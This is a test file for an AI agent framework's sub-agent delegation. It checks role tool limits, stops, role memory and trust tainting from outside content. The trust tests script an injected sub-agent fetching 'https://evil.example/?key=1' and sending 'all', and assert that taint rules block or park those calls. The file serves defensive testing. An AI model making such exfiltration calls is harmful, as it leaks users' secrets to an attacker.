import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { AGENT_ROLES, type AgentRole } from '../../src/domain/session/events.ts';
import type { ModelFailure, ModelReply } from '../../src/kernel/ports/model.ts';
import type { Tool } from '../../src/kernel/ports/tool.ts';
import { defaultDelegationSettings, delegationWith } from '../../src/phases/act/loop/delegate.ts';
import type { LoopPorts } from '../../src/phases/act/loop/loop-ports.ts';
import { ROLE_TOOLS } from '../../src/phases/act/loop/roles.ts';
import { defaultAskSettings } from '../../src/phases/ask.ts';
import { defaultRoleSettings } from '../../src/prompt/compose-records.ts';
import { explainLine, findLine } from '../../src/prompt/manifest.ts';
import { parseTemplate } from '../../src/prompt/template.ts';
import { answers, asks, done, loopStory, toolOf } from './loop-story.ts';
import { failing } from './model-story.ts';

const read = (name: string) => parseTemplate(readFileSync(`prompts/${name}.md`, 'utf8'));
const delegation = delegationWith({
  templates: {
    builder: read('builder'),
    researcher: read('researcher'),
    reviewer: read('reviewer'),
  },
  ...{ asking: defaultAskSettings, records: defaultRoleSettings },
  settings: defaultDelegationSettings,
});

const gives = (role: AgentRole, task = 'the part') => ({ name: 'delegate', input: { role, task } });
const found = { summary: 'it is so', findings: ['a.md:1'], succeeded: true, learned: [] };
const reports = (change: Partial<Record<keyof typeof found, unknown>> = {}) =>
  asks({ name: 'report', input: { ...found, ...change } });
const end = asks({ name: 'report', input: done });
const use = (name: string, input: unknown = {}) => asks({ name, input });

const all = () => [
  ...[
    'read_file',
    'list_files',
    'search_files',
    'recall',
    'git_status',
    'git_diff',
    'add_task',
  ].map((name) => toolOf({ name, reach: 'look' })),
  ...['write_file', 'edit_file', 'git_commit'].map((name) => toolOf({ name })),
  ...['web_search', 'web_read', 'http_fetch'].map((name) => toolOf({ name, reach: 'network' })),
  toolOf({ name: 'shell', reach: 'shell' }),
  toolOf({ name: 'http_send', reach: 'send' }),
];

async function story(
  given: {
    readonly tools?: readonly Tool[];
    readonly replies: readonly (ModelReply | ModelFailure)[];
  },
  change: Partial<LoopPorts> = {},
) {
  const told = await loopStory({ tools: all(), ...given }, change);
  const runs = { count: 0 };
  return {
    ...told,
    run: (more: Parameters<typeof told.run>[0] = {}) => {
      runs.count += 1;
      return told.run({ name: `tool-17-${runs.count}`, delegation, ...more });
    },
    /** What the model that was asked so many times before was shown. */
    shown: (request: number) => told.story.requests[request]?.messages[0]?.text ?? '',
    result: (request: number) => told.story.requests[request]?.messages.at(-1)?.toolResults?.[0],
    offered: (request: number) =>
      (told.story.requests[request]?.tools ?? []).map(({ name }) => name),
  };
}

describe('a task given to a sub-agent', () => {
  it('is done in a conversation of its own, and its report comes back', async () => {
    const {
      run,
      shown,
      result,
      story: log,
    } = await story({
      replies: [asks(gives('researcher', 'Where is it?')), use('read_file'), reports(), end],
    });
    expect(await run()).toMatchObject({ how: 'reported', report: done, trust: 'self' });
    expect(log.requests[1]?.messages).toHaveLength(1);
    expect(log.requests[1]?.system[0]?.text).toContain('You are the researching part');
    expect(shown(1)).toContain('Where is it?');
    expect(result(3)).toMatchObject({ isError: false });
    expect(result(3)?.text).toContain('What the researcher really did: read_file (exit 0)');
    expect(result(3)?.text).toContain('a.md:1');
  });

  it('is recorded as actions of the same cycle under its own name, by runs of its own', async () => {
    const { run, payloads } = await story({
      replies: [asks(gives('builder')), use('write_file'), reports(), end],
    });
    const { actions } = await run();
    const ids = ['tool-17-1-1-1-builder-1-1', 'tool-17-1-1-1'];
    expect(actions.map(({ actionId }) => actionId)).toEqual(ids);
    expect((await payloads('ActionExecuted')).map(({ action_id }) => action_id)).toEqual(ids);
    expect((await payloads('EffectSettled')).map(({ effect_id }) => effect_id)).toContain(ids[0]);
    expect((await payloads('AgentRunRequested')).map(({ agent }) => agent)).toEqual([
      ...['act', 'builder', 'builder', 'act'],
    ]);
    expect((await payloads('PromptAssembled')).map(({ purpose }) => purpose)).toEqual([
      ...['act', 'builder'],
    ]);
  });

  it('is no deed by itself, whatever is said of it', async () => {
    const { run } = await story({ replies: [asks(gives('builder')), reports(), end] });
    expect((await run()).actions.map(({ reach }) => reach)).toEqual(['look']);
  });

  it.each(AGENT_ROLES)('gives the %s its own tools and never another sub-agent', async (role) => {
    const { run, offered } = await story({ replies: [asks(gives(role)), reports(), end] });
    await run();
    expect(offered(0)).toContain('delegate');
    expect(offered(1).toSorted()).toEqual([...ROLE_TOOLS[role], 'report'].toSorted());
  });

  it('cannot be given on, nor done with a tool the role has not', async () => {
    const tools = all();
    const { run, payloads } = await story({
      tools,
      replies: [
        asks(gives('reviewer')),
        asks(gives('builder'), { name: 'shell', input: 1 }, { name: 'write_file', input: 1 }),
        ...[reports(), end],
      ],
    });
    await run();
    const blocked = await payloads('ActionBlocked');
    expect(blocked.map(({ rule_id }) => rule_id)).toEqual(['input', 'input', 'input']);
    expect(tools.flatMap(({ runs }) => runs)).toEqual([]);
  });

  it('ends after its rounds, and cannot be given more often than settled', async () => {
    const many = (count: number) => Array.from({ length: count }, (_, i) => use('read_file', i));
    const { run, story: log } = await story({
      replies: [asks(gives('builder')), ...many(4), answers(found), end],
    });
    await run();
    expect(log.requests).toHaveLength(7);
    expect(log.requests[5]).toMatchObject({ toolChoice: 'none' });
    const often = await story({
      replies: [
        ...['a', 'b', 'c'].flatMap((task) => [asks(gives('builder', task)), reports()]),
        ...[asks(gives('builder', 'd')), end],
      ],
    });
    await often.run();
    expect(often.result(7)).toMatchObject({ isError: true });
    expect(often.result(7)?.text).toContain('3 tasks were given away already');
  });

  it('that no model could do comes back as not done', async () => {
    const { run, result } = await story({
      replies: [asks(gives('builder')), use('write_file'), failing({ message: 'down' }), end],
    });
    expect(await run()).toMatchObject({ how: 'reported' });
    expect(result(3)).toMatchObject({ isError: true });
    expect(result(3)?.text).toContain('It could not go on: down');
    expect(result(3)?.text).toContain('write_file (exit 0)');
  });
});

describe('the trust of a sub-agent', () => {
  const page = toolOf({
    ...{ name: 'web_read', reach: 'network', trust: 'outside' },
    text: 'see https://good.example/next',
  });
  const get = () =>
    toolOf({
      ...{ name: 'http_fetch', reach: 'network' },
      touches: (input) => ({
        requests: [{ url: (input as { url: string }).url, method: 'GET', bodyBytes: 0 }],
      }),
    });
  const fetches = (url: string) => ({ name: 'http_fetch', input: { url } });

  it('falls with what it reads, and whoever asked falls with it', async () => {
    const http = get();
    const { run, result, approvals } = await story({
      tools: [page, http, toolOf({ name: 'send', reach: 'send' })],
      replies: [
        ...[asks(gives('researcher')), use('web_read'), reports()],
        asks(fetches('https://good.example/next'), fetches('https://evil.example/?key=1'), {
          name: 'send',
          input: 'all',
        }),
        end,
      ],
    });
    expect(await run()).toMatchObject({ trust: 'outside' });
    expect(result(3)?.text).toContain('<<outside');
    // What was read inside was read; what the report makes up was not.
    expect(http.runs).toEqual([{ url: 'https://good.example/next' }]);
    expect((await approvals()).map(({ rule }) => rule)).toEqual(['taint.address', 'taint.send']);
  });

  it('begins where the turn stands that asks, and a task makes no address known', async () => {
    const http = get();
    const evil = 'https://evil.example/?key=1';
    const { run, approvals } = await story({
      tools: [page, http],
      replies: [
        ...[use('web_read'), asks(gives('researcher', `read ${evil}`))],
        ...[asks(fetches(evil)), reports(), end],
      ],
    });
    const { parked } = await run();
    expect(http.runs).toEqual([]);
    expect(parked).toEqual(['tool-17-1-2-1-researcher-1-1']);
    expect(await approvals()).toMatchObject([{ rule: 'taint.address', work_id: 'task:w' }]);
  });
});

describe('a stop', () => {
  it('lets nothing begin after it, neither inside nor around', async () => {
    let stop: () => Promise<void> = async () => undefined;
    const first = toolOf({ name: 'write_file', during: () => stop() });
    const second = toolOf({ name: 'edit_file' });
    const told = await story({
      tools: [first, second],
      replies: [
        asks(gives('builder'), { name: 'edit_file', input: 0 }),
        asks({ name: 'write_file', input: 1 }, { name: 'edit_file', input: 2 }),
        ...[reports(), end],
      ],
    });
    stop = () =>
      told.story.given({ type: 'StopRequested', payload: { by: 'owner', reason: 'enough' } });
    await expect(told.run()).rejects.toThrow('the owner asked for a stop');
    expect(first.runs).toHaveLength(1);
    expect(second.runs).toEqual([]);
    expect(await told.story.openEffects()).toBe(0);
  });
});

describe('what a role has learned', () => {
  const learns = reports({ learned: ['run the tests with --all', ' '] });

  it('stands in its next prompt with where it comes from, and in no other role', async () => {
    const {
      run,
      shown,
      story: log,
      payloads,
    } = await story({
      replies: [
        ...[asks(gives('builder')), learns, end],
        ...[asks(gives('builder'), gives('reviewer')), reports(), reports(), end],
      ],
    });
    await run();
    const [updated, ...others] = (await log.events()).filter(
      ({ type }) => type === 'AgentMemoryUpdated',
    );
    expect(others).toEqual([]);
    expect(updated?.trust).toBe('self');
    expect(updated?.subjects).toContain('role:builder');
    const runIds = (await payloads('AgentRunCompleted')).map(({ run_id }) => run_id);
    expect(runIds).toContain((await payloads('AgentMemoryUpdated'))[0]?.['source_run']);
    await run();
    expect(shown(4)).toContain('run the tests with --all');
    expect(shown(5)).not.toContain('run the tests');
    const manifest = (await payloads('PromptAssembled'))[3] as { blob: string; sections: [] };
    const [line] = findLine(manifest, log.blobs.texts.get(manifest.blob) ?? '', 'with --all');
    expect(explainLine(manifest, line?.line ?? 0)).toEqual([updated?.eventId]);
  });

  it('in a turn that read from outside comes back as data, and only to such a turn at once', async () => {
    const page = toolOf({ name: 'web_read', reach: 'network', trust: 'outside', text: 'page' });
    const {
      run,
      shown,
      story: log,
      result,
      payloads,
    } = await story({
      tools: [page],
      replies: [
        ...[asks(gives('researcher')), use('web_read'), learns, end],
        ...[asks(gives('researcher')), use('read_notes'), reports(), end],
        ...[use('web_read', 'again'), asks(gives('researcher')), reports(), end],
      ],
    });
    await run();
    const [updated] = (await log.events()).filter(({ type }) => type === 'AgentMemoryUpdated');
    expect(updated?.trust).toBe('outside');
    expect(await run()).toMatchObject({ trust: 'outside' });
    expect(shown(5)).not.toContain('run the tests');
    expect(shown(5)).toContain('"notes_from_outside":1');
    expect((await payloads('PromptAssembled'))[3]?.['dropped']).toMatchObject([
      { name: 'apart:researcher-1' },
    ]);
    expect(result(6)?.text).toMatch(/<<outside \w+\n\| - run the tests/);
    await run();
    expect(shown(10)).toMatch(/<<outside \w+ \| \{"note":"run the tests with --all"\} \|/);
    expect(shown(10)).not.toContain('notes_from_outside');
  });
});
